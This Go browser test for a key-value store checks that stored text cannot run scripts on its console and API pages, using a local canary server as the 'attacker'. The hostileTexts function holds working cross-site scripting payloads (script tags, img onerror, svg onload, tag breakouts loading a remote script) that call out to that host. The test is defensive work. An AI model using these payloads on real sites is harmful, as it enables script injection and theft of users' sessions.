package browser

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strconv"
	"strings"
	"testing"

	"github.com/runnelkv/runnel/test/runnel"
)

// TestStoredTextRunsNoScript stores hostile text in every place that a client can choose, and opens every page that
// shows the text. The same text on a server without protection runs a script.
func TestStoredTextRunsNoScript(t *testing.T) {
	tab, c := open(t), newCanary(t)
	hostile := hostileTexts(c.URL)
	control := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		text := `<script>fetch("` + c.URL + `/end",{mode:"no-cors"})</script>`
		if i, err := strconv.Atoi(r.URL.Path[1:]); err == nil {
			text = hostile[i]
		}
		fmt.Fprint(w, "<!doctype html>"+text)
	}))
	defer control.Close()
	for i := range hostile {
		visit(t, tab, fmt.Sprint(control.URL, "/", i))
		c.await(t, fmt.Sprint("/stored/", i))
	}
	c.take()

	p := runnel.Serve(t, "--data", t.TempDir())
	pages := []string{"/", "/console/keys", "/console/keys?delimiter=%3C", "/console/changes?since=start", "/console/files", "/console/files?dir=d/", "/v1/status", "/bucket/", "/canonicalbucket/", "/v1/keys?prefix=", "/v1/keys?prefix=&values=true", "/v1/keys?prefix=&delimiter=%3C", "/v1/changes"}
	for i, text := range hostile {
		escaped := url.PathEscape(text)
		for j, mediaType := range []string{"text/html", "image/svg+xml", "application/xhtml+xml", "text/javascript", "text/plain", `text/html; a="` + strings.ReplaceAll(text, `"`, `\"`) + `"`} {
			name := fmt.Sprintf("%d-%d", i, j)
			put(t, p.URL+"/v1/keys/"+name, text, mediaType, text)
			pages = append(pages, "/v1/keys/"+name, "/v1/keys/"+name+"?entry=true", "/bucket/"+name)
		}
		put(t, p.URL+"/v1/keys/"+escaped, text, "text/html", text)
		put(t, p.URL+"/v1/files/"+escaped, text, "text/html", text)
		put(t, p.URL+"/v1/files/d/"+escaped, text, "image/svg+xml", text)
		for _, page := range []string{"key?key=", "edit?key=", "keys?prefix=", "new?prefix=", "changes?prefix=", "file?path=", "files?dir=", "signin?next=", "locks?prefix=", "accounts?q="} {
			pages = append(pages, "/console/"+page+url.QueryEscape(text))
		}
		pages = append(pages, fmt.Sprintf("/console/key?key=%d-1", i), fmt.Sprintf("/console/edit?key=%d-0", i))
		pages = append(pages, "/v1/keys/"+escaped, "/v1/keys/"+escaped+"?entry=true", "/bucket/"+escaped, "/v1/keys?prefix="+url.QueryEscape(text),
			"/v1/keys?after="+url.QueryEscape(text), "/v1/keys?"+url.QueryEscape(text)+"=1", "/problems/"+escaped, "/"+escaped, "/v1/changes?since="+url.QueryEscape(text))
	}
	for _, page := range pages {
		visit(t, tab, p.URL+page)
		if hits := c.take(); len(hits) > 0 {
			t.Errorf("%s reached the attacker: %q", page, hits)
		}
	}
	visit(t, tab, control.URL+"/end") // later than all requests of the pages before
	c.await(t, "/end")
	if hits := c.take(); len(hits) > 1 {
		t.Errorf("a page reached the attacker: %q", hits)
	}
}

// hostileTexts returns texts that run a script in a page without escapes.
func hostileTexts(attacker string) []string {
	host := strings.TrimPrefix(attacker, "http:")
	return []string{
		`<script>fetch("` + host + `/stored/0",{mode:"no-cors"})</script>`,
		`"'><img src=x onerror=fetch('` + host + `/stored/1')>`,
		`<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('` + host + `/stored/2')"></svg>`,
		`</title></textarea></pre><script src=` + host + `/stored/3></script>`,
	}
}

func put(t *testing.T, url, body, mediaType, metadata string) {
	t.Helper()
	r, err := http.NewRequest("PUT", url, strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	r.Header.Set("Content-Type", mediaType)
	r.Header.Set("Runnel-Meta-Note", metadata)
	answer, err := http.DefaultClient.Do(r)
	if err != nil {
		t.Fatal(err)
	}
	answer.Body.Close()
	if answer.StatusCode != http.StatusCreated && answer.StatusCode != http.StatusBadRequest { // an impossible media type
		t.Fatalf("PUT %s as %s: %s", url, mediaType, answer.Status)
	}
}
